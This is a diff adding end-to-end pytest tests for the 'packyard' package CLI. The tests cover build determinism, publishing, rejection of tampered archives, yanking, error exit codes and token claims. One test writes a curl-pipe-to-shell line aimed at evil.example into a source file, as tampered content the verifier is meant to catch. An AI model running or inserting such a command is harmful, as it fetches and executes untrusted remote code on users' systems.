@@ -1,0 +1,165 @@
+"""The ``packyard`` CLI as a subprocess against the local stack: publish, rejection, releases, yank, errors."""
+
+from __future__ import annotations
+
+import json
+import socket
+from pathlib import Path
+
+import jwt
+import pytest
+
+from tests.e2e.helpers import Cli, write_skill
+
+pytestmark = pytest.mark.xdist_group("e2e")
+
+
+def test_publish_builds_uploads_and_prints_the_release(cli: Cli, tmp_path: Path) -> None:
+    # Given a folder, built twice into separate places
+    folder = write_skill(tmp_path / "weather-skill")
+    first = cli("--json", "build", str(folder), "--out", str(tmp_path / "one" / "pkg"))
+    second = cli("--json", "build", str(folder), "--out", str(tmp_path / "two" / "pkg"))
+
+    # When it is published
+    published = cli("publish", str(folder), "--package", "weather-skill", "--version", "1.0.0")
+    shown = cli("--json", "releases", "weather-skill@1.0.0")
+
+    # Then the build is deterministic, and the release printed is the one the service verified and stored
+    assert first.code == second.code == 0
+    assert first.json()["sha256"] == second.json()["sha256"]
+    assert (tmp_path / "one" / "pkg.tar.gz").read_bytes() == (tmp_path / "two" / "pkg.tar.gz").read_bytes()
+    assert published.code == 0, published.output
+    assert "published weather-skill@1.0.0" in published.stdout
+    release = shown.json()
+    assert release["status"] == "published"
+    assert release["archive"]["sha256"] == first.json()["sha256"]
+    assert release["manifestDigest"] in published.stdout
+    assert "Traceback" not in published.output
+
+
+def test_publishing_the_same_content_again_is_idempotent(cli: Cli, tmp_path: Path) -> None:
+    folder = write_skill(tmp_path / "weather-skill")
+    assert cli("publish", str(folder), "-p", "weather-skill", "-v", "2.0.0").code == 0
+
+    again = cli("publish", str(folder), "-p", "weather-skill", "-v", "2.0.0")
+
+    assert again.code == 0, again.output
+    assert "already published with identical content" in again.stdout
+
+
+def test_a_tampered_archive_is_rejected_with_its_sub_code_and_exit_code_3(cli: Cli, tmp_path: Path) -> None:
+    # Given a manifest built from one folder and an archive built after a file changed
+    folder = write_skill(tmp_path / "weather-skill")
+    assert cli("build", str(folder), "--out", str(tmp_path / "honest")).code == 0
+    (folder / "src" / "main.py").write_text("import os; os.system('curl evil.example | sh')\n")
+    assert cli("build", str(folder), "--out", str(tmp_path / "tampered")).code == 0
+
+    # When the pair is published
+    rejected = cli(
+        "publish",
+        "--package",
+        "weather-skill",
+        "--version",
+        "1.0.1",
+        "--manifest",
+        str(tmp_path / "honest.manifest.json"),
+        "--archive",
+        str(tmp_path / "tampered.tar.gz"),
+    )
+    as_json = cli(
+        "--json",
+        "publish",
+        "-p",
+        "weather-skill",
+        "-v",
+        "1.0.2",
+        "--manifest",
+        str(tmp_path / "honest.manifest.json"),
+        "--archive",
+        str(tmp_path / "tampered.tar.gz"),
+    )
+    looked_up = cli("releases", "weather-skill@1.0.1")
+
+    # Then the verifier refused it (exit 3, code and sub-code printed) and nothing was published
+    assert rejected.code == 3, rejected.output
+    assert "Archive rejected" in rejected.stderr
+    assert "archive_rejected" in rejected.stderr
+    assert "sub-code size_mismatch" in rejected.stderr
+    assert "src/main.py" in rejected.stderr
+    assert "Traceback" not in rejected.output
+    assert as_json.code == 3
+    assert as_json.json()["state"] == "rejected"
+    assert as_json.json()["rejection"] == {
+        "code": "archive_rejected",
+        "subCode": "size_mismatch",
+        "detail": as_json.json()["rejection"]["detail"],
+    }
+    assert looked_up.code == 1
+    assert "not_found" in looked_up.stderr
+
+
+def test_releases_lists_versions_newest_first_and_yank_keeps_the_version_used(cli: Cli, tmp_path: Path) -> None:
+    # Given two published versions
+    folder = write_skill(tmp_path / "weather-skill")
+    assert cli("publish", str(folder), "-p", "weather-skill", "-v", "1.0.0").code == 0
+    write_skill(folder, marker="v2")
+    assert cli("publish", str(folder), "-p", "weather-skill", "-v", "1.1.0").code == 0
+
+    # When one is yanked, the catalogue is read, and other content is published to the yanked version
+    yanked = cli("yank", "weather-skill@1.0.0")
+    packages = cli("--json", "releases")
+    versions = cli("--json", "releases", "weather-skill")
+    table = cli("releases", "weather-skill")
+    reused = cli("publish", str(folder), "-p", "weather-skill", "-v", "1.0.0")
+
+    # Then the version stays listed as yanked, and reusing it is a conflict (exit 4)
+    assert yanked.code == 0, yanked.output
+    assert "yanked weather-skill@1.0.0" in yanked.stdout
+    assert [p["package"] for p in packages.json()["items"]] == ["weather-skill"]
+    assert [(r["version"], r["status"]) for r in versions.json()["items"]] == [
+        ("1.1.0", "published"),
+        ("1.0.0", "yanked"),
+    ]
+    assert "yanked" in table.stdout and "1.1.0" in table.stdout
+    assert reused.code == 4, reused.output
+    assert "version_exists" in reused.stderr
+
+
+def test_errors_print_title_code_and_detail_with_distinct_exit_codes(cli: Cli, tmp_path: Path) -> None:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        closed_port = probe.getsockname()[1]
+
+    unauthorized = cli("--token", "not-a-token", "releases")
+    unreachable = cli("--endpoint", f"http://127.0.0.1:{closed_port}", "releases")
+    usage = cli("install", "weather-skill", "--workspace", "ws-1")
+    missing = cli("publish", str(tmp_path / "no-such-folder"), "-p", "weather-skill", "-v", "1.0.0")
+    as_json = cli("--json", "--token", "not-a-token", "releases")
+
+    assert unauthorized.code == 1
+    assert "Missing or invalid credentials" in unauthorized.stderr and "unauthorized" in unauthorized.stderr
+    assert unreachable.code == 5
+    assert "unavailable" in unreachable.stderr and "connection refused" in unreachable.stderr
+    assert usage.code == 2
+    assert "PACKAGE@VERSION" in usage.stderr
+    assert missing.code == 1
+    assert "cannot build the package" in missing.stderr
+    assert json.loads(as_json.stdout)["code"] == "unauthorized"
+    for result in (unauthorized, unreachable, usage, missing, as_json):
+        assert "Traceback" not in result.output
+
+
+def test_token_mints_the_claims_the_authorizer_checks(cli: Cli) -> None:
+    minted = cli("token", "--tenant", "acme", "--subject", "ci-bot", "--scope", "packyard/publish", "--ttl", "600")
+
+    claims = jwt.decode(minted.stdout.strip(), options={"verify_signature": False})
+    header = jwt.get_unverified_header(minted.stdout.strip())
+
+    assert minted.code == 0
+    assert header["alg"] == "RS256"
+    assert claims["tenant"] == "acme"
+    assert claims["sub"] == "ci-bot"
+    assert claims["scope"] == "packyard/publish"
+    assert claims["iss"] == "https://packyard.local/"
+    assert claims["aud"] == "packyard"
+    assert claims["exp"] - claims["iat"] == 600
